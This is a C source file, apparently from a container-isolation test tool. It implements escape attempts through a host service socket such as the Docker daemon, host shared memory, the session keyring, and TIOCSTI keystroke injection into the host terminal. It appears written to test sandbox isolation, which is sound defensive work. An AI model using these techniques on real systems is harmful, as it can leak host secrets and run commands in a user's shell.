/*
 * Ways out over what the host's programs offer: sockets, shared memory, keys,
 * the terminal.
 */
#include <errno.h>
#include <linux/keyctl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attempt.h"

/* service ADDRESS: asks a server of the host, as the Docker daemon at its
 * socket would be asked for a container with all rights. */
static int service(char **words)
{
    static const char question[] = "GET /_ping HTTP/1.0\r\n\r\n";
    int fd = open_address(words[0], 0);

    if (fd >= 0 && write(fd, question, strlen(question)) < 0) {
        close(fd);
        fd = -1;
    }
    return escaped_with(fd, words[0]);
}

/* shared-memory KEY: what a program of the host keeps there. */
static int shared_memory(char **words)
{
    int id = shmget(atoi(words[0]), 0, 0);
    const char *text = id < 0 ? (void *)-1 : shmat(id, NULL, SHM_RDONLY);

    if (text == (void *)-1)
        return refused("shmget");
    return escaped("%.100s", text);
}

/* key NAME: a key of the session that started the container. */
static int key(char **words)
{
    char text[101] = "";
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING,
                      "user", words[0], 0);

    if (id < 0 ||
        syscall(SYS_keyctl, KEYCTL_READ, id, text, sizeof(text) - 1) < 0)
        return refused("keyctl");
    return escaped("%s", text);
}

/* type TEXT: types a line into the terminal, for the shell that is there when
 * the container has ended (TIOCSTI, ioctl_tty(2)). */
static int type(char **words)
{
    for (const char *c = words[0]; *c != '\0'; c++)
        if (ioctl(STDIN_FILENO, TIOCSTI, c) < 0)
            return refused("TIOCSTI");
    if (ioctl(STDIN_FILENO, TIOCSTI, "\n") < 0)
        return refused("TIOCSTI");
    return escaped("typed");
}

const struct attempt service_attempts[] = {
    {"service", 1, service}, {"shared-memory", 1, shared_memory},
    {"key", 1, key},         {"type", 1, type},
    {NULL, 0, NULL},
};
